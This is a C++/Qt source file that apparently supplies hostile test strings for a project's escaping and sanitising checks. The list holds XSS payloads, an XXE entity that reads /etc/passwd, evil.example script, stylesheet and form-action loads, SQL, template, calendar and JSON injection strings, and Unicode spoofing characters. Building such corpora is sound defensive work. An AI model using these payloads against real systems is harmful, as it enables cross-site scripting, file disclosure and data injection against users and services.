// SPDX-FileCopyrightText: 2026 The Watchkeeper authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "support/hostiletexts.h"

#include "support/hostilemarkup.h"

namespace support {

using namespace Qt::StringLiterals;

namespace {

QStringList elements()
{
    return {
        u"<script>alert(1)</script>"_s,
        u"</script><script>alert(1)</script>"_s,
        u"<SCRIPT SRC=//evil.example/x.js></SCRIPT>"_s,
        u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s,
        u"<img src=x onerror=alert(1)>"_s,
        u"<img/src=x/onerror=alert(1)//"_s,
        u"<svg onload=alert(1)>"_s,
        u"<svg><script>alert(1)</script></svg>"_s,
        u"<math><mtext><script>alert(1)</script></mtext></math>"_s,
        u"<iframe src=\"javascript:alert(1)\"></iframe>"_s,
        u"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"_s,
        u"<body onload=alert(1)>"_s,
        u"<details open ontoggle=alert(1)>"_s,
        u"<input autofocus onfocus=alert(1)>"_s,
        u"<object data=\"data:text/html,<script>alert(1)</script>\"></object>"_s,
        u"<embed src=//evil.example/x.swf>"_s,
        u"<link rel=stylesheet href=//evil.example/x.css>"_s,
        u"<style>@import '//evil.example/x.css';</style>"_s,
        u"<style>body{display:none}</style>"_s,
        u"<meta http-equiv=refresh content=\"0;url=//evil.example\">"_s,
        u"<base href=\"//evil.example/\">"_s,
        u"<form action=//evil.example><input name=q></form>"_s,
        u"<template><script>alert(1)</script></template>"_s,
        u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"_s,
        u"<!--><script>alert(1)</script-->"_s,
        u"<!-- --!><img src=x onerror=alert(1)> -->"_s,
        u"<![CDATA[<script>alert(1)</script>]]>"_s,
        u"]]><script>alert(1)</script>"_s,
        u"<?xml version=\"1.0\"?><x/>"_s,
        u"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"_s,
        u"</article></main><h1>Fake</h1>"_s,
        u"</p></div><p>"_s,
        u"</textarea></title></style><script>alert(1)</script>"_s,
        u"<a href=\"javascript:alert(1)\">x</a>"_s,
        u"<p/onclick=alert(1)>x"_s,
    };
}

QStringList attributes()
{
    return {
        u"\" onmouseover=\"alert(1)"_s,
        u"' onmouseover='alert(1)"_s,
        u"\"><script>alert(1)</script>"_s,
        u"'><script>alert(1)</script>"_s,
        u"\" style=\"position:fixed;inset:0"_s,
        u"\" data-revision=\"0193a000-0000-7000-8000-000000000103"_s,
        u"` onload=`alert(1)"_s,
        u"x\" autofocus onfocus=alert(1) y=\""_s,
    };
}

QStringList addresses()
{
    return {
        u"javascript:alert(1)"_s,
        u"JaVaScRiPt:alert(1)"_s,
        u"java\tscript:alert(1)"_s,
        u"data:text/html,<script>alert(1)</script>"_s,
        u"vbscript:msgbox(1)"_s,
        u"http://x.example/\"onmouseover=\"alert(1)"_s,
        u"http://x.example/'onmouseover='alert(1)"_s,
        u"https://x.example/<script>alert(1)</script>"_s,
        u"https://x.example/?a=1&b=<img src=x onerror=alert(1)>"_s,
        u"https://x.example/`onload=alert(1)"_s,
        u"http://javascript:alert(1)@x.example/"_s,
        u"see (https://x.example/a_(b)), or https://x.example/c."_s,
        u"file:///etc/passwd"_s,
        u"http://x.example/\u202Emoc.elpmaxe"_s,
        u"//evil.example/x"_s,
    };
}

QStringList encodings()
{
    return {
        u"&lt;script&gt;alert(1)&lt;/script&gt;"_s,
        u"&#60;script&#62;alert(1)&#60;/script&#62;"_s,
        u"&#x3c;img src=x onerror=alert(1)&#x3e;"_s,
        u"&amp;lt;b&amp;gt;"_s,
        u"&notanentity; &amp &"_s,
        u"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"_s,
        u"%3Cscript%3Ealert(1)%3C/script%3E"_s,
        u"\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"_s,
        u"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"_s,
        u"<\u0000script>alert(1)</script>"_s,
        u"a\u0001b\u0008c\u000Bd\u001Fe"_s,
        u"\uFFFE\uFFFF"_s,
        QString(QChar(0xD800)) + u"lone"_s,
        u"lone"_s + QChar(0xDC00),
        u"\u202Ethgir ot tfel\u202C"_s,
        u"zero\u200Bwidth\u200D\uFEFF"_s,
        u"\U0001F6A8 down \U0001F468\u200D\U0001F469\u200D\U0001F467"_s,
        u"Z\u0351\u0342a\u0321l\u0358g\u0360o"_s,
    };
}

QStringList otherFormats()
{
    return {
        u"{{siteName}} {{#links}}x{{/links}}"_s,
        u"%1 %2 %n %%"_s,
        u"${7*7} #{7*7} <%= 7*7 %>"_s,
        u"\"},\"status\":{\"indicator\":\"none\"},\"x\":{\"y\":\""_s,
        u"\\\"\\\\"_s,
        u"END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:fake"_s,
        u"line\nEND:VCALENDAR\nX-EVIL:1"_s,
        u"semi;colon,comma\\nback\\slash"_s,
        u"SUMMARY;ALTREP=\"http://evil.example\":x"_s,
        u"=HYPERLINK(\"http://evil.example\")"_s,
        u"'; DROP TABLE event; --"_s,
        u"[x](javascript:alert(1)) ![x](//evil.example/x.png)"_s,
        u"\u2028line\u2029separators"_s,
    };
}

} // namespace

QStringList hostileTexts()
{
    return elements() + attributes() + addresses() + encodings() + otherFormats() +
           hostileHandlers() + hostileStructures() + hostileSchemes() + hostileFormats();
}

} // namespace support
